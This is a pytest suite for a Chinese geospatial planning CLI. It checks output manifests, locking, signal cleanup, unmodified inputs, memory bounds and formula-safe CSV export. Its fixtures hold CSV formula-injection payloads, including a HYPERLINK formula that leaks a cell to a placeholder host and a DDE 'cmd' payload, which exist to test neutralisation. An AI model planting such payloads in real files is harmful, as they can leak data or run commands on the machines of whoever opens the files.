"""What the toolkit promises: inputs never modified, output sets complete or marked incomplete,
signals handled like Ctrl-C, formula-safe CSVs, quiet means quiet, memory bounded by the work.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from shapely.geometry import LineString, box

from deyang_geo.analysis import demand
from deyang_geo.cli.app import main
from deyang_geo.core.errors import InputError
from deyang_geo.io.files import formula_safe
from deyang_geo.io.output_set import INCOMPLETE_NAME, LOCK_NAME, MANIFEST_NAME

FIXTURES = Path(__file__).resolve().parent / "fixtures"
ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'


def _copy_fixtures(folder: Path, *, hostile: bool = False) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    files = {"network": folder / "net.osm", "facilities": folder / "fac.csv",
             "demand": folder / "com.geojson", "candidates": folder / "cand.csv"}
    files["network"].write_bytes((FIXTURES / "cli_access_streets.osm").read_bytes())
    facilities = (FIXTURES / "cli_access_facilities.csv").read_text(encoding="utf-8")
    communities = json.loads((FIXTURES / "cli_access_communities.geojson").read_text(
        encoding="utf-8"))
    candidates = "id,name,lon,lat\nS1,空置用房,104.3975,31.1302\nS2,闲置地,104.395,31.1336\n"
    if hostile:
        facilities = facilities.replace("长江路卫生室", "@SUM(1+1)*cmd|' /C calc'!A0")
        communities["features"][0]["properties"]["name"] = HOSTILE
        communities["features"][1]["properties"]["name"] = "-2+3"
        communities["features"][2]["properties"]["township"] = "+旌阳街道"
        communities["features"][3]["properties"]["name"] = "\tTAB"
        candidates = candidates.replace("空置用房", "=1+1").replace("S2", "-S2")
    files["facilities"].write_text(facilities, encoding="utf-8")
    files["demand"].write_text(json.dumps(communities, ensure_ascii=False), encoding="utf-8")
    files["candidates"].write_text(candidates, encoding="utf-8")
    return files


def _hashes(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def _access(files: dict[str, Path], out: Path, *extra: str) -> int:
    return main([*extra, "access", "--network", str(files["network"]), "--facilities",
                 str(files["facilities"]), "--demand", str(files["demand"]), "--out", str(out)])


# --- output sets ---------------------------------------------------------------------------


def test_manifest_lists_every_file_written_last(tmp_path: Path) -> None:
    files = _copy_fixtures(tmp_path / "in")
    out = tmp_path / "out"
    assert _access(files, out) == 0
    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
    listed = {f["path"]: f for f in manifest["files"]}
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert set(listed) == on_disk - {MANIFEST_NAME}
    assert {"access.csv", "coverage.csv", "outside_reach.csv", "map.html"} <= set(listed)
    for rel, entry in listed.items():
        data = (out / rel).read_bytes()
        assert entry["bytes"] == len(data)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        assert entry["written_by"] == "access"
    assert manifest["complete"] is True
    assert not (out / INCOMPLETE_NAME).exists()
    assert not (out / LOCK_NAME).exists()
    # manifest.json is the newest file: written last
    newest = max(out.iterdir(), key=lambda p: p.stat().st_mtime_ns)
    assert newest.name == MANIFEST_NAME


def test_rerun_replaces_its_set_and_keeps_other_files(tmp_path: Path) -> None:
    files = _copy_fixtures(tmp_path / "in")
    out = tmp_path / "out"
    assert _access(files, out) == 0
    (out / "notes.txt").write_text("the planner's own notes", encoding="utf-8")
    (out / "old_extra.csv").write_text("stale", encoding="utf-8")
    (out / "compliance_city.csv").write_text("from compliance", encoding="utf-8")
    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
    manifest["files"] += [{"path": "old_extra.csv", "bytes": 5, "sha256": "", "written_by":
                           "access"},
                          {"path": "compliance_city.csv", "bytes": 15, "sha256": "",
                           "written_by": "compliance"},
                          {"path": "../../escape.txt", "bytes": 1, "sha256": "",
                           "written_by": "access"}]
    (tmp_path / "escape.txt").write_text("outside", encoding="utf-8")
    (out / MANIFEST_NAME).write_text(json.dumps(manifest), encoding="utf-8")

    assert _access(files, out) == 0
    assert not (out / "old_extra.csv").exists()  # the previous access set is replaced
    assert (out / "notes.txt").read_text(encoding="utf-8") == "the planner's own notes"
    assert (out / "compliance_city.csv").exists()  # another command's file stays
    assert (tmp_path / "escape.txt").exists()  # never a file outside the folder
    listed = {f["path"]: f["written_by"] for f in json.loads(
        (out / MANIFEST_NAME).read_text(encoding="utf-8"))["files"]}
    assert listed["compliance_city.csv"] == "compliance"
    assert listed["access.csv"] == "access"
    assert "notes.txt" not in listed


def test_failed_run_leaves_marker_and_report_refuses_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    import deyang_geo.outputs.webmap

    files = _copy_fixtures(tmp_path / "in")
    out = tmp_path / "out"

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("simulated defect while writing the map")

    monkeypatch.setattr(deyang_geo.outputs.webmap, "save_map", broken)
    assert _access(files, out) == 1
    assert (out / "access.csv").is_file()  # written before the failure
    assert (out / INCOMPLETE_NAME).is_file()
    assert not (out / MANIFEST_NAME).exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
    capsys.readouterr()

    assert main(["report", str(out), "--out", str(tmp_path / "report"), "--no-figures"]) == 2
    err = capsys.readouterr().err
    assert "incomplete" in err
    assert str(out) in err
    assert not (tmp_path / "report").exists()

    monkeypatch.undo()
    assert _access(files, out) == 0
    assert not (out / INCOMPLETE_NAME).exists()
    assert (out / MANIFEST_NAME).is_file()


def test_a_run_that_fails_before_writing_leaves_nothing(tmp_path: Path) -> None:
    files = _copy_fixtures(tmp_path / "in")
    files["facilities"].write_text("id,name,category,lon,lat\n", encoding="utf-8")
    assert _access(files, tmp_path / "out") == 2
    assert not (tmp_path / "out").exists()
    # into an existing complete set: the set stays complete and untouched
    good = _copy_fixtures(tmp_path / "good")
    assert _access(good, tmp_path / "set") == 0
    before = _hashes(sorted(p for p in (tmp_path / "set").rglob("*") if p.is_file()))
    assert _access(files, tmp_path / "set") == 2
    assert _hashes(sorted(p for p in (tmp_path / "set").rglob("*") if p.is_file())) == before


def test_lock_stops_a_second_run_into_the_same_folder(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import fcntl

    files = _copy_fixtures(tmp_path / "in")
    out = tmp_path / "out"
    out.mkdir()
    with (out / LOCK_NAME).open("a+", encoding="utf-8") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.write("4242\n")
        held.flush()
        assert _access(files, out) == 2
        err = capsys.readouterr().err
        assert "another deyang-geo run (process 4242)" in err
        assert sorted(p.name for p in out.iterdir()) == [LOCK_NAME]
    assert _access(files, out) == 0  # the lock is gone with its holder


def test_stray_temporaries_are_removed_and_report_ignores_them(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = _copy_fixtures(tmp_path / "in")
    out = tmp_path / "out"
    out.mkdir()
    stray = out / ".coverage.k2j4x.tmp.csv"
    stray.write_text("half", encoding="utf-8")
    assert _access(files, out) == 0
    assert not stray.exists()
    # a killed report run left a half-written GeoPackage in a result folder
    half = out / ".report_layers.abc123.tmp.gpkg"
    half.write_bytes(b"SQLite format 3\x00 half written")
    (out / ".map.x1.tmp.png").write_bytes(b"half")
    capsys.readouterr()
    assert main(["report", str(out), "--out", str(tmp_path / "rep"), "--no-figures"]) == 0
    assert "report_layers" not in capsys.readouterr().err


_SIGNAL_SCRIPT = """
import os, signal, sys
from pathlib import Path
import deyang_geo.outputs.command_map
import deyang_geo.outputs.webmap
import deyang_geo.study.outputs
from deyang_geo.cli import main
from deyang_geo.io import atomic_path

def save_map(fmap, path):
    with atomic_path(path) as tmp:
        tmp.write_text("half a map", encoding="utf-8")
        os.kill(os.getpid(), getattr(signal, sys.argv[1]))
        signal.pause() if sys.argv[1] != "SIGINT" else None

original = deyang_geo.outputs.webmap.save_map
for module in list(sys.modules.values()):  # every module that took save_map by name
    if getattr(module, "save_map", None) is original:
        module.save_map = save_map
sys.exit(main(sys.argv[2:]))
"""


@pytest.mark.parametrize(("name", "code"), [("SIGTERM", 143), ("SIGINT", 130),
                                            ("SIGHUP", 129)])
def test_signals_clean_up_and_mark_incomplete(tmp_path: Path, name: str, code: int) -> None:
    files = _copy_fixtures(tmp_path / "in")
    inputs = _hashes(list(files.values()))
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(
        [sys.executable, "-c", _SIGNAL_SCRIPT, name, "access", "--network",
         str(files["network"]), "--facilities", str(files["facilities"]), "--demand",
         str(files["demand"]), "--out", str(out)],
        capture_output=True, text=True, env=env, timeout=600, check=False)
    assert proc.returncode == code, proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith("interrupted")
    assert "Traceback" not in proc.stderr
    assert (out / "access.csv").is_file()
    assert (out / INCOMPLETE_NAME).is_file()
    assert not (out / MANIFEST_NAME).exists()
    assert not (out / LOCK_NAME).exists()
    assert not list(out.rglob(".*"))  # no temporary files
    assert _hashes(list(files.values())) == inputs


# --- inputs are never modified -------------------------------------------------------------


def test_every_command_leaves_its_inputs_byte_identical(tmp_path: Path) -> None:
    files = _copy_fixtures(tmp_path / "in", hostile=True)
    inputs = _hashes(list(files.values()))
    common = ["--network", str(files["network"]), "--facilities", str(files["facilities"])]
    runs = [
        ["access", *common, "--demand", str(files["demand"]), "--out", str(tmp_path / "a")],
        ["compliance", *common, "--demand", str(files["demand"]), "--out",
         str(tmp_path / "c")],
        ["suggest-sites", *common, "--demand", str(files["demand"]), "--category",
         "health_room", "--new-sites", "1", "--candidates", str(files["candidates"]),
         "--out", str(tmp_path / "s")],
        ["isochrones", *common, "--out", str(tmp_path / "iso.geojson")],
        ["network", "--osm", str(files["network"]), "--out", str(tmp_path / "g.graphml")],
        ["report", str(tmp_path / "a"), str(tmp_path / "c"), str(tmp_path / "s"), "--out",
         str(tmp_path / "r"), "--no-figures"],
    ]
    for argv in runs:
        assert main(["-q", *argv]) == 0, argv
        assert _hashes(list(files.values())) == inputs, argv
    _assert_formula_safe(tmp_path)


# --- CSV outputs are formula-safe ----------------------------------------------------------


def _assert_formula_safe(folder: Path) -> None:
    csvs = sorted(folder.rglob("*.csv"))
    csvs = [p for p in csvs if "in" not in p.relative_to(folder).parts[:1]]
    assert len(csvs) >= 15
    seen_hostile = False
    for path in csvs:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    seen_hostile |= cell == "'" + HOSTILE
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                    if cell.startswith("-"):
                        float(cell)  # a negative number, nothing else
    assert seen_hostile


def test_formula_safe_keeps_numbers_numbers() -> None:
    table = pd.DataFrame({"name": ["=1+1", "+86 138", "-2+3", "-3.5", "@x", "\tx", "\rx",
                                   "ok", None],
                          "minutes": [-3.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, np.nan],
                          "=bad header": list(range(9))})
    safe = formula_safe(table)
    assert safe["name"].tolist()[:8] == ["'=1+1", "'+86 138", "'-2+3", "-3.5", "'@x",
                                         "'\tx", "'\rx", "ok"]
    assert pd.isna(safe["name"].iloc[8])
    assert safe["minutes"].dtype == float
    assert safe["minutes"].iloc[0] == -3.5
    assert list(safe.columns) == ["name", "minutes", "'=bad header"]
    assert table["name"].iloc[0] == "=1+1"  # the input table is not modified


# --- quiet means quiet ---------------------------------------------------------------------


def test_quiet_prints_nothing_but_errors(tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    files = _copy_fixtures(tmp_path / "in")
    common = ["--network", str(files["network"]), "--facilities", str(files["facilities"]),
              "--demand", str(files["demand"])]
    for argv in (["compliance", *common, "--out", str(tmp_path / "c")],
                 ["suggest-sites", *common, "--category", "library_room", "--new-sites", "1",
                  "--out", str(tmp_path / "s")],
                 ["network", "--osm", str(files["network"]), "--out",
                  str(tmp_path / "g.graphml")]):
        assert main(["-q", *argv]) == 0
        captured = capsys.readouterr()
        assert (captured.out, captured.err) == ("", ""), argv
    # without -q the same runs warn (the network drops a piece, the library is unreachable)
    assert main(["compliance", *common, "--out", str(tmp_path / "c2")]) == 0
    err = capsys.readouterr().err
    assert "no library_room facility is reachable" in err
    assert "fac.csv" in err


# --- plausibility --------------------------------------------------------------------------


def test_identical_ambiguous_columns_warn_and_say_which_is_used(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = _copy_fixtures(tmp_path / "in")
    files["facilities"].write_text(
        "id,name,category,lon,lat,x,y\nH1,a,health_room,104.39,31.13,104.39,31.13\n",
        encoding="utf-8")
    assert _access(files, tmp_path / "out") == 0
    err = capsys.readouterr().err
    assert "columns 'lon' and 'x' both look like lon and hold the same values; using 'lon'" \
        in err


def test_demand_unit_limit_names_the_community() -> None:
    communities = gpd.GeoDataFrame(
        {"id": ["small", "large"], "population": [10, 1000]},
        geometry=[box(0, 0, 300, 300), box(1000, 0, 2000, 1000)], crs=32648)
    units = demand.demand_units(communities, crs=32648, max_units_per_community=100)
    assert len(units) == 9 + 100
    with pytest.raises(InputError) as info:
        demand.demand_units(communities, crs=32648, max_units_per_community=99)
    text = str(info.value)
    assert "row 2" in text
    assert "'large'" in text
    assert "100 demand units" in text
    assert "grid spacing" in text
    assert "'small'" not in text


def test_tiled_grid_gives_the_same_units_as_one_tile(monkeypatch: pytest.MonkeyPatch) -> None:
    polygons = [box(0, 0, 2000, 1500), box(5000, 5000, 5230, 5170),
                shapely.Polygon([(0, 3000), (3000, 3100), (2900, 6000), (200, 4000)]),
                LineString([(10000, 0), (14000, 4000)]).buffer(120),
                box(20000, 0, 20040, 40)]
    communities = gpd.GeoDataFrame({"id": [f"c{i}" for i in range(len(polygons))],
                                    "population": [1000, 50, 700, 300, 5]},
                                   geometry=polygons, crs=32648)
    whole = demand.demand_units(communities, crs=32648)
    for tile in (7, 64, 1000):
        monkeypatch.setattr(demand, "_TILE_POINTS", tile)
        tiled = demand.demand_units(communities, crs=32648)
        pd.testing.assert_frame_equal(pd.DataFrame(tiled.drop(columns="geometry")),
                                      pd.DataFrame(whole.drop(columns="geometry")))
        assert tiled.geometry.geom_equals_exact(whole.geometry, tolerance=0).all()


_THIN_STRIP = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
import geopandas as gpd
from shapely.geometry import LineString
from deyang_geo.analysis.demand import demand_units
strip = gpd.GeoSeries([LineString([(103.0, 28.0), (108.0, 34.0)])], crs=4326)
strip = strip.to_crs(32648).buffer(60)
comm = gpd.GeoDataFrame({"id": ["STRIP"], "population": [1000]}, geometry=strip, crs=32648)
units = demand_units(comm, crs=32648)
print(len(units))
"""


@pytest.mark.skipif(sys.platform != "linux", reason="address-space limits are Linux's")
def test_a_thin_polygon_with_a_huge_bounding_box_in_1_gb(tmp_path: Path) -> None:
    # a 120 m wide strip 780 km long: a bounding box of 37 M grid points, about 9,800 inside
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", _THIN_STRIP], capture_output=True, text=True,
                          env=env, timeout=900, check=False, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert 9000 < int(proc.stdout.strip()) < 10500


@pytest.mark.skipif(sys.platform != "linux", reason="address-space limits are Linux's")
def test_province_sized_community_fails_clearly_under_2_gb(tmp_path: Path) -> None:
    files = _copy_fixtures(tmp_path / "in")
    data = json.loads(files["demand"].read_text(encoding="utf-8"))
    data["features"][2]["geometry"] = {"type": "Polygon", "coordinates": [[
        [103.0, 28.0], [108.0, 28.0], [108.0, 34.0], [103.0, 34.0], [103.0, 28.0]]]}
    files["demand"].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    limit = 2 << 30  # the address space (RLIMIT_AS, as `ulimit -v`): a normal run fits in it
    script = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))
        from deyang_geo.cli import main
        sys.exit(main(sys.argv[1:]))
    """)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    common = ["access", "--network", str(files["network"]), "--facilities",
              str(files["facilities"]), "--out", str(tmp_path / "out")]
    proc = subprocess.run([sys.executable, "-c", script, *common, "--demand",
                           str(files["demand"])], capture_output=True, text=True, env=env,
                          timeout=900, check=False)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert f"{files['demand']}, row 3, column 'geometry'" in proc.stderr
    assert "km2" in proc.stderr
    assert "check its coordinates" in proc.stderr
    assert not (tmp_path / "out").exists()
    # the same limit is enough for the normal run
    good = _copy_fixtures(tmp_path / "good")
    proc = subprocess.run([sys.executable, "-c", script, *common[:-1], str(tmp_path / "ok"),
                           "--demand", str(good["demand"])], capture_output=True, text=True,
                          env=env, timeout=900, check=False)
    assert proc.returncode == 0, proc.stderr[-2000:]



# --- figures without a CJK font ------------------------------------------------------------


def test_without_cjk_font_no_missing_glyphs_and_english_titles(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import matplotlib.pyplot as plt

    from deyang_geo.io import fonts
    from deyang_geo.outputs import figures

    monkeypatch.setattr(fonts, "cjk_family_or_warn", lambda: None)
    communities = gpd.GeoDataFrame(
        {"id": ["U1", "R1"], "name": ["东山社区", "五里村"], "population": [10, 20]},
        geometry=[box(104.38, 31.12, 104.39, 31.13), box(104.39, 31.12, 104.40, 31.13)],
        crs=4326)
    with pytest.warns(figures.FontWarning, match="English"):
        fig = figures.study_figure(title="15分钟服务圈 15-minute service circle",
                                   scenario="步行 walk 15 min", communities=communities,
                                   synthetic=True, lang="both")
    # pytest turns matplotlib's "Glyph ... missing from font" warnings into errors here
    figures.save_figure(fig, tmp_path / "map.png")
    texts = [t.get_text() for t in fig.findobj(lambda a: hasattr(a, "get_text"))]
    assert "15-minute service circle" in texts
    assert not any(figures_has_cjk(t) for t in texts)
    plt.close(fig)
    with pytest.warns(figures.FontWarning):
        chart = figures.coverage_chart(
            pd.DataFrame({"category": ["health_room"], "covered_share_15min": [0.5]}),
            title="覆盖率 coverage", lang="zh")
    figures.save_figure(chart, tmp_path / "chart.png")
    assert chart.axes[0].get_title() == "coverage"
    plt.close(chart)


def figures_has_cjk(text: str) -> bool:
    """Whether a text holds a Chinese character."""
    return any(0x2E80 <= ord(ch) <= 0x9FFF for ch in text)


def test_integers_beyond_int64_are_read_without_overflow(tmp_path: Path) -> None:
    from deyang_geo.io.tables import read_table

    path = tmp_path / "big.csv"
    path.write_text("id,extra\nC1,100000000000000000000\nC2,7\n", encoding="utf-8")
    table = read_table(path)
    assert table["extra"].tolist() == [1e20, 7.0]
